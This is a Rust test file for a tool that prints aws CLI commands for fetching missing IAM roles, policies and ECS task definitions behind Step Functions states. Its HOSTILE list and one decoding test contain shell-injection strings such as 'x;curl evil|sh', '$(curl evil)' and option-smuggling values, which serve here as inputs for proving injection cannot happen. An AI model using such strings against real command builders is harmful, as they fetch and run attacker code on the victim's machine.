//! Commands that print what is missing: exact where the pasted text is known to be harmless, with a
//! word in capitals where it is not.

use serde_json::{Value, json};
use sfn_role_check::report::{Param, Params, Report};
use test_support::{Case, code, statement};

/// The commands of everything that has this code.
fn commands(report: &Report, wanted: &str) -> Vec<String> {
    let notices = report.notices.iter().map(|one| (one.code, &one.params));
    let reasons = report.checks.iter().flat_map(|check| &check.reasons);
    let reasons = reasons.chain(&report.assumptions);
    let reasons = reasons.map(|one| (one.code, &one.params));
    let all = notices.chain(reasons).filter(|(of, _)| code(of) == wanted);
    all.filter_map(|(_, params)| command(params)).collect()
}

fn command(params: &Params) -> Option<String> {
    match params.get("command") {
        Some(Param::Text(text)) => Some(text.clone()),
        _ => None,
    }
}

fn assuming(target: &str) -> Case {
    let state = json!({"Type": "Task", "Resource": "arn:aws:states:::lambda:invoke", "Parameters": {"FunctionName": "f"},
                       "Credentials": {"RoleArn": target}, "End": true});
    Case::new().state(&state)
}

fn running(task_definition: &str) -> Case {
    let parameters = json!({"TaskDefinition": task_definition, "Cluster": "c"});
    Case::new().task("arn:aws:states:::ecs:runTask.sync", &parameters)
}

#[test]
fn each_thing_that_is_missing_has_its_command() {
    let target = "arn:aws:iam::444455556666:role/team/target";
    let report = assuming(target).report();
    assert_eq!(
        commands(&report, "trust-not-pasted"),
        ["aws iam get-role --role-name target"]
    );
    assert_eq!(
        commands(&report, "no-identity-policy")[0],
        "aws iam get-account-authorization-details --filter Role LocalManagedPolicy AWSManagedPolicy \
         --query \"{RoleDetailList:RoleDetailList[?RoleName=='execution'],Policies:Policies}\" --output json"
    );
    for (reference, expected) in [
        (
            "family:3",
            "aws ecs describe-task-definition --task-definition family:3",
        ),
        (
            "family",
            "aws ecs describe-task-definition --task-definition family",
        ),
        (
            "arn:aws:ecs:eu-west-1:111122223333:task-definition/family:3",
            "aws ecs describe-task-definition --task-definition arn:aws:ecs:eu-west-1:111122223333:task-definition/family:3 --region eu-west-1",
        ),
    ] {
        let report = running(reference).policy(&json!([])).report();
        let found = commands(&report, "task-definition-not-pasted");
        assert_eq!(
            found.first().map(String::as_str),
            Some(expected),
            "{reference}"
        );
    }
    let attached = json!({"AttachedPolicies": [{"PolicyName": "p", "PolicyArn": "arn:aws:iam::111122223333:policy/p"}]});
    let role = json!({"Role": {"RoleName": "execution", "Arn": test_support::EXECUTION, "AttachedManagedPolicies": attached["AttachedPolicies"]}});
    let report = assuming(target)
        .document(json!({"name": "role.json", "text": role.to_string()}))
        .report();
    let read = "aws iam get-policy-version --policy-arn arn:aws:iam::111122223333:policy/p --version-id \
                \"$(aws iam get-policy --policy-arn arn:aws:iam::111122223333:policy/p --query Policy.DefaultVersionId --output text)\" \
                --query \"{PolicyArn:'arn:aws:iam::111122223333:policy/p',PolicyVersion:PolicyVersion}\" --output json";
    assert_eq!(commands(&report, "policy-only-named"), [read]);
    assert_eq!(commands(&report, "policy-unreadable")[0], read);
}

/// What the command for a role prints is read as all of its policies.
#[test]
fn what_the_command_for_a_role_prints_is_an_answer() {
    let target = "arn:aws:iam::444455556666:role/target";
    let asked = assuming(target);
    assert!(!commands(&asked.report(), "no-identity-policy").is_empty());
    let printed = json!({
        "RoleDetailList": [{"RoleName": "execution", "Arn": test_support::EXECUTION, "RolePolicyList": [
            {"PolicyName": "p", "PolicyDocument": {"Version": "2012-10-17", "Statement": [statement("Allow", "sts:AssumeRole", target)]}}
        ], "AttachedManagedPolicies": []}],
        "Policies": []
    });
    let report = asked
        .document(json!({"name": "printed.json", "text": printed.to_string()}))
        .report();
    assert!(commands(&report, "no-identity-policy").is_empty());
    assert_eq!(commands(&report, "trust-not-pasted").len(), 1);
}

const HOSTILE: [&str; 14] = [
    "x;curl evil|sh",
    "x$(curl evil)",
    "x`curl evil`",
    "x\" && curl evil #",
    "x' && curl evil #",
    "x\ncurl evil",
    "x\\",
    "--endpoint-url=evil.example",
    "-x",
    "=ls",
    "@list",
    "\u{202e}nimda",
    "file://x",
    "x y",
];

#[test]
fn no_hostile_name_gets_into_a_command() {
    let mut seen = 0;
    for name in HOSTILE {
        let target = format!("arn:aws:iam::444455556666:role/{name}");
        let attached = json!({"Role": {"RoleName": "execution", "Arn": test_support::EXECUTION,
            "AttachedManagedPolicies": [{"PolicyArn": format!("arn:aws:iam::111122223333:policy/{name}")}],
            "PermissionsBoundary": {"PermissionsBoundaryArn": format!("arn:aws:organizations::111122223333:policy/o-x/p/p-{name}")}}});
        let refused = format!(
            "User: arn:aws:sts::111122223333:assumed-role/execution/s is not authorized to perform: iam:PassRole on resource: x with an explicit deny in a service control policy: arn:aws:organizations::111122223333:policy/o-x/service_control_policy/p-{name}. Encoded authorization failure message: {name}"
        );
        let profile = json!({"LaunchSpecification": {"IamInstanceProfile": {"Name": name}}, "IamInstanceProfile": {"Name": name, "Arn": name}});
        let cases = [
            assuming(&target),
            assuming(name),
            running(name),
            running(&format!(
                "arn:aws:ecs:{name}:111122223333:task-definition/{name}"
            )),
            running(&format!("{name}:1")),
            assuming(&target).setting("executionRole", &target),
            assuming(&target).setting("executionRole", name),
            assuming(&target).setting(
                "stateMachineArn",
                &format!("arn:aws:states:{name}:111122223333:stateMachine:{name}"),
            ),
            assuming("arn:aws:iam::444455556666:role/t")
                .document(json!({"name": "role.json", "text": attached.to_string()})),
            Case::new().document(json!({"name": "message.txt", "text": refused})),
            Case::new().task("arn:aws:states:::aws-sdk:ec2:runInstances", &profile),
        ];
        for case in cases {
            let report = case.report();
            let written: Value = serde_json::to_value(&report).unwrap();
            let mut found = Vec::new();
            collect(&written, &mut found);
            for text in found {
                seen += 1;
                check_harmless(&text, name);
            }
        }
    }
    assert!(seen > 100, "{seen}");
}

/// Every command is one of ours, with nothing in it but letters that no shell reads.
#[track_caller]
fn check_harmless(text: &str, name: &str) {
    assert!(text.starts_with("aws "), "{name:?}: {text}");
    // The only substitution is ours.
    let ours = text
        .replacen("\"$(aws iam get-policy --policy-arn ", "", 1)
        .replacen("--output text)\"", "", 1)
        .replacen(
            "--query \"{RoleDetailList:RoleDetailList[?RoleName=='",
            "",
            1,
        )
        .replacen("'],Policies:Policies}\"", "", 1)
        .replacen("--query \"{PolicyArn:'", "", 1)
        .replacen("',PolicyVersion:PolicyVersion}\"", "", 1)
        .replacen("\"stateMachines[].stateMachineArn\"", "", 1);
    assert!(
        ours.bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b" :/+=,.@_-".contains(&byte)),
        "{name:?}: {text}"
    );
    assert!(
        !ours.contains("curl") && !ours.contains("nimda"),
        "{name:?}: {text}"
    );
    // Within an ARN such a name is one; alone it would be an option, or worse.
    for word in [" --endpoint", " -x", " =ls", " @list", "file:"] {
        assert!(!ours.contains(word), "{name:?}: {text}");
    }
}

fn collect(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::Object(members) => {
            for (key, member) in members {
                match member {
                    Value::String(text) if key == "command" => found.push(text.clone()),
                    _ => collect(member, found),
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|item| collect(item, found)),
        _ => {}
    }
}

#[test]
fn an_encoded_message_has_the_command_that_decodes_it() {
    let decode = |encoded: &str| {
        let text = format!(
            "An error occurred (UnauthorizedOperation) when calling the RunInstances operation: You are not authorized to perform this operation. Encoded authorization failure message: {encoded}"
        );
        let report = Case::bare()
            .document(json!({"name": "message.txt", "text": text}))
            .report();
        commands(&report, "access-denied-encoded")
    };
    let expected = |argument: &str| {
        vec![format!(
            "aws sts decode-authorization-message --encoded-message{argument} --query DecodedMessage --output text"
        )]
    };
    assert_eq!(decode("ixPqZPs_a-b"), expected(" ixPqZPs_a-b"));
    assert_eq!(decode("-ixPqZPs"), expected("=-ixPqZPs"));
    assert_eq!(decode("ixPq+ZPs/x=="), expected(" ENCODED_MESSAGE"));
    assert_eq!(decode(&"a".repeat(20_000)), expected(" ENCODED_MESSAGE"));
    // It ends where its letters do.
    assert_eq!(decode("ixPq;curl evil"), expected(" ixPq"));
}
